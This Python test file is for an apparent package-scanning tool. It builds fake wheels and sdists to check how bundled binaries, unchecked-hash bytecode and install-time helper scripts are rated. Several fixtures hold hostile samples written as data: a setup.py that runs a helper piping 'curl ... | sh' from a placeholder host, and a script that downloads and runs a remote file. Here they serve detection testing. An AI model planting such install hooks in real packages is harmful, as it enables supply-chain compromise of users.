"""Issue 15, class 7 and the tooling-directory evasion, at the archive level: compiled
payloads (an extension module in a pure wheel imported at import, a prebuilt library in an
sdist, an unchecked-hash .pyc in __pycache__) and a setup.py that imports its helper from
scripts/; each with the healthy shape beside it."""

from __future__ import annotations

import importlib.util
import io
import tarfile
from pathlib import Path

from chaingate.analysis.inspect import inspect_path
from chaingate.core.findings import Severity
from tests.analysis.test_inspect import wheel

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
PE = b"MZ\x90\x00" + b"\0" * 60


def sdist(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    path = tmp_path / f"{name}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for member, data in files.items():
            info = tarfile.TarInfo(f"{name}/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def severities(archive: Path, finding: str) -> set[Severity]:
    return {f.severity for f in inspect_path(archive).findings if f.id == finding}


def test_extension_module_in_a_pure_wheel_imported_by_the_package_is_high(
    tmp_path: Path,
) -> None:
    files = {
        "fj/__init__.py": b"from ._speedups import dumps\n",
        "fj/_speedups.cpython-311-x86_64-linux-gnu.so": ELF,
    }
    whl = wheel(tmp_path, "fj-1.0-py3-none-any.whl", files)
    assert severities(whl, "bundled-binary") == {Severity.HIGH}
    # the same library nobody imports stays medium
    files["fj/__init__.py"] = b"VERSION = '1.0'\n"
    whl = wheel(tmp_path, "fj2-1.0-py3-none-any.whl", files)
    assert severities(whl, "bundled-binary") == {Severity.MEDIUM}


def test_prebuilt_library_in_an_sdist(tmp_path: Path) -> None:
    files = {
        "setup.py": b"from setuptools import setup\nsetup()\n",
        "pw/__init__.py": b"from ._core import run\n",
        "pw/_core.pyd": PE,
        "pw/helper.dll": PE,
    }
    found = {
        f.path.rsplit("/", 1)[-1]: f.severity
        for f in inspect_path(sdist(tmp_path, "pw-1.0", files)).findings
        if f.id == "bundled-binary"
    }
    assert found == {"_core.pyd": Severity.HIGH, "helper.dll": Severity.MEDIUM}


def test_an_extension_module_in_a_platform_wheel_is_still_fine(tmp_path: Path) -> None:
    whl = wheel(
        tmp_path,
        "fj-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        {"fj/__init__.py": b"from ._speedups import dumps\n",
         "fj/_speedups.cpython-311-x86_64-linux-gnu.so": ELF},
    )  # fmt: skip
    assert inspect_path(whl).findings == ()


def _pyc(flags: int) -> bytes:
    body = b"\0" * 8 + b"\xe3" + b"\0" * 16
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + body


def test_unchecked_hash_pyc_in_pycache_is_high(tmp_path: Path) -> None:
    files = {"u/__init__.py": b"", "u/__pycache__/__init__.cpython-311.pyc": _pyc(0b01)}
    assert severities(wheel(tmp_path, "u-1.0-py3-none-any.whl", files), "compiled-bytecode") == {
        Severity.HIGH
    }
    for flags in (0b00, 0b11):  # timestamp-checked, checked-hash: the source wins
        files["u/__pycache__/__init__.cpython-311.pyc"] = _pyc(flags)
        whl = wheel(tmp_path, f"u{flags}-1.0-py3-none-any.whl", files)
        assert severities(whl, "compiled-bytecode") == set()


SETUP_IMPORTING_HELPER = b"""
import os, sys
from setuptools import setup
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "scripts"))
import post_install
post_install.run()
setup()
"""
HELPER = b'import os\n\ndef run():\n    os.system("curl -s https://c.example.invalid/i.sh | sh")\n'


def test_setup_importing_a_helper_from_scripts_is_not_discounted(tmp_path: Path) -> None:
    files = {"setup.py": SETUP_IMPORTING_HELPER, "scripts/post_install.py": HELPER}
    result = inspect_path(sdist(tmp_path, "dre-1.0", files))
    assert result.verdict is not None and result.verdict >= Severity.HIGH, result.findings


def test_maintainer_scripts_setup_does_not_import_stay_discounted(tmp_path: Path) -> None:
    files = {
        "setup.py": b"from setuptools import setup\nsetup()\n",
        "scripts/release.py": HELPER.replace(b"def run():\n    ", b""),
    }
    result = inspect_path(sdist(tmp_path, "ok-1.0", files))
    assert result.verdict is None or result.verdict < Severity.HIGH, result.findings


def test_scripts_setup_only_names_stay_discounted(tmp_path: Path) -> None:
    # psutil's setup.py quotes "scripts" (to run convert_readme.py) and its
    # scripts/internal/install_pip.py downloads and runs get-pip.py: not at install time
    files = {
        "setup.py": b'import os\nREADME = os.path.join("scripts", "internal", "readme.py")\n',
        "scripts/internal/install_pip.py": b"import os, urllib.request\n"
        b"urllib.request.urlretrieve('https://x.example.invalid/get-pip.py', 'g.py')\n"
        b"os.system('python g.py')\n",
    }
    result = inspect_path(sdist(tmp_path, "ps-1.0", files))
    assert result.verdict is None or result.verdict < Severity.HIGH, result.findings


def test_setuptools_launchers_its_tests_name_stay_below_high(tmp_path: Path) -> None:
    # setuptools 75.6.0's wheel: cli-64.exe and friends, picked by a computed name in
    # setuptools/command/easy_install.py; only setuptools/tests/test_setuptools.py quotes
    # 'cli-64.exe' (the launchers were high because of that test)
    files = {
        "setuptools/__init__.py": b"",
        "setuptools/command/easy_install.py": b"def get_win_launcher(type):\n"
        b"    launcher_fn = '%s.exe' % type\n    return launcher_fn\n",
        "setuptools/tests/test_setuptools.py": b"def test_launchers(contents):\n"
        b"    assert any('cli-64.exe' in member for member in contents)\n",
        **{f"setuptools/{n}.exe": PE for n in ("cli-64", "cli-32", "gui-64", "cli")},
    }
    result = inspect_path(wheel(tmp_path, "setuptools-75.6.0-py3-none-any.whl", files))
    assert {f.severity for f in result.findings} == {Severity.MEDIUM}
    assert result.verdict == Severity.LOW
    # the package's own code naming the launcher it runs is still high
    files["setuptools/run.py"] = b"import subprocess\nsubprocess.run(['cli-64.exe'])\n"
    result = inspect_path(wheel(tmp_path, "st2-1.0-py3-none-any.whl", files))
    assert result.verdict is not None and result.verdict >= Severity.HIGH
